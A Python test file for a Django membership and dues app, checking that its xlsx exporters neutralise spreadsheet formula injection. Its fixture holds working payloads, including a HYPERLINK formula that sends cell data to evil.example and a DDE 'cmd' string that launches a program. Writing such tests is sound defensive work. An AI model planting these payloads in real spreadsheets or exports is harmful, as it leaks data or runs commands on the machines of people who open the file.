"""Every spreadsheet exporter in the registry neutralises text a spreadsheet would run as a formula.

Records are seeded with hostile names, topics, notes, org names, rule and rubric labels; each
exporter that writes xlsx is run through the registry (so a new exporter is covered without
touching this file) and the workbook is opened with openpyxl: no cell is a formula, no text cell
starts with ``=``, ``+``, ``-``, ``@``, a tab or a CR, and numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import datetime as dt
import re
from decimal import Decimal
from io import BytesIO

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from branches.exporting import ExportRefused, exporters, safe_cell
from branches.importing import FORMULA_PREFIXES
from branches.models import OrgUnit
from branches.periods import Period
from dues import points, services
from dues.models import PointsItem, PointsSheet
from meetings import services as meeting_services
from meetings.models import ComplianceRule, Meeting, MeetingKind
from members.models import Person
from reports.exporters import run_export
from reports.models import RubricItem
from tests.dues.helpers import m, member

pytestmark = pytest.mark.django_db

HOSTILE = {
    "unit": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "person": "=cmd|' /C calc'!A0",
    "position": "+1",
    "phone": "+8613800000000",
    "ethnicity": "@SUM(A1)",
    "topic": "-1+2",
    "place": "@SUM(1+1)*cmd|' /C calc'!A0",
    "host": "\t=1+1",
    "minutes": "\r=1+1",
    "reason": "+请假",
    "note": '=HYPERLINK("http://evil.example/","讲党课")',
    "rule": "=规则",
    "category": "+组织生活",
    "item": "-逾期缴纳党费",
}


@pytest.fixture
def hostile(tree):
    a = tree["branch_a"]
    OrgUnit.objects.filter(pk=a.pk).update(name=HOSTILE["unit"])
    a.refresh_from_db()
    person = member(a, name=HOSTILE["person"], position=HOSTILE["position"], phone=HOSTILE["phone"],
                    ethnicity=HOSTILE["ethnicity"])
    other = member(a)
    # dues: March due; ``other`` pays late, so the points sheet gets an automatic −2 (a negative number)
    services.dues_generate(actor=None, month=m("2026-03"))
    services.payments_record(actor=None, person=person, months=[m("2026-03")], paid_on=dt.date(2026, 3, 20))
    services.payments_record(actor=None, person=other, months=[m("2026-03")], paid_on=dt.date(2026, 4, 2))
    PointsItem.objects.filter(code="late_dues").update(name=HOSTILE["item"])
    sheet = points.points_sheet_open(actor=None, unit=a, month=m("2026-03"))
    points.points_compute_automatic(actor=None, sheet=sheet)
    points.points_entry_add(actor=None, sheet=sheet, person=person, item=PointsItem.objects.get(code="lecture"),
                            note=HOSTILE["note"])
    PointsSheet.objects.filter(pk=sheet.pk).update(state="confirmed")
    # a meeting with hostile text everywhere, and a hostile leave reason
    meeting = meeting_services.meeting_create(
        actor=None, unit=a, kind=MeetingKind.GENERAL, date=dt.date(2026, 3, 5), topic=HOSTILE["topic"],
        place=HOSTILE["place"], host=HOSTILE["host"], minutes=HOSTILE["minutes"],
    )
    # The services store clean text (a tab or CR no longer opens a field); a record stored before
    # they did may still hold one, and the exports must neutralise it all the same.
    Meeting.objects.filter(pk=meeting.pk).update(host=HOSTILE["host"], minutes=HOSTILE["minutes"])
    meeting_services.attendance_set(actor=None, meeting=meeting, person=other, status="leave", reason=HOSTILE["reason"])
    ComplianceRule.objects.filter(pk=ComplianceRule.objects.order_by("order").first().pk).update(name=HOSTILE["rule"])
    RubricItem.objects.filter(pk=RubricItem.objects.order_by("order").first().pk).update(category=HOSTILE["category"])
    return {"person": person, "other": other, "meeting": meeting}


def render_xlsx(exporter, unit):
    """The exporter's workbook for the first period it accepts (quarter, half, year)."""
    for text in ("2026Q1", "2026H1", "2026"):
        try:
            return run_export(identifier=exporter.identifier, unit=unit, period=Period.parse(text), fmt="xlsx",
                              user=None, via="cli").content
        except ExportRefused:
            continue
    raise AssertionError(f"{exporter.identifier} rendered no period")


def cells(content):
    book = load_workbook(BytesIO(content))  # not read-only: cell.data_type tells a formula apart
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from (cell for cell in row if cell.value is not None)


XLSX_EXPORTERS = [e.identifier for e in exporters() if "xlsx" in e.formats]


def test_the_registry_has_the_spreadsheet_exporters():
    assert {"members", "meetings", "compliance", "dues", "points", "scorecard"} <= set(XLSX_EXPORTERS)


@pytest.mark.parametrize("identifier", XLSX_EXPORTERS)
def test_no_exporter_writes_a_formula(tree, hostile, identifier):
    exporter = next(e for e in exporters() if e.identifier == identifier)
    seen = list(cells(render_xlsx(exporter, tree["committee"])))
    assert seen
    for cell in seen:
        where = f"{identifier} {cell.parent.title}!{cell.coordinate}: {cell.value!r}"
        assert cell.data_type != "f", where
        if isinstance(cell.value, str):
            assert not cell.value.startswith(FORMULA_PREFIXES), where
            assert not re.fullmatch(r"'-?\d+(\.\d+)?", cell.value), f"a number became text: {where}"
    quoted = {cell.value[1:] for cell in seen if isinstance(cell.value, str) and cell.value.startswith("'")}
    assert quoted & set(HOSTILE.values()), f"{identifier}: the hostile records did not reach the export"


def test_every_hostile_value_is_neutralised_somewhere(tree, hostile):
    """The seeding is not wasted: each hostile text reaches at least one export, quoted."""
    quoted = set()
    for identifier in XLSX_EXPORTERS:
        exporter = next(e for e in exporters() if e.identifier == identifier)
        quoted |= {c.value[1:] for c in cells(render_xlsx(exporter, tree["committee"]))
                   if isinstance(c.value, str) and c.value.startswith("'")}
    missing = {key for key, value in HOSTILE.items() if value not in quoted}
    assert not missing


def test_negative_numbers_stay_numbers(tree, hostile):
    exporter = next(e for e in exporters() if e.identifier == "points")
    details = [c for c in cells(render_xlsx(exporter, tree["committee"])) if c.parent.title == "积分明细"]
    negative = [c for c in details if isinstance(c.value, int | float) and c.value < 0]
    assert negative and all(c.data_type == "n" for c in negative)
    assert -2 in {c.value for c in negative}


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("张三", "张三"), ("a=1", "a=1"), ("", ""), (-5, -5), (Decimal("-12.50"), Decimal("-12.50")),
    (None, None), (dt.date(2026, 1, 1), dt.date(2026, 1, 1)),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_hostile_roster_round_trips(tree, hostile, tmp_path):
    """The quote the export adds is taken off by the importer: export → import changes nothing."""
    out = tmp_path / "roster.xlsx"
    call_command("export", "members", "--org", tree["committee"].code, "--period", "2026Q1", "--out", str(out))
    book = load_workbook(out)
    row = next(r for r in book.active.iter_rows(values_only=True) if r[1] == hostile["person"].id_number)
    assert row[0] == "'" + HOSTILE["person"]
    call_command("import_xlsx", "members", str(out))
    person = Person.objects.get(pk=hostile["person"].pk)
    assert (person.name, person.phone, person.position, person.ethnicity) == (
        HOSTILE["person"], HOSTILE["phone"], HOSTILE["position"], HOSTILE["ethnicity"])
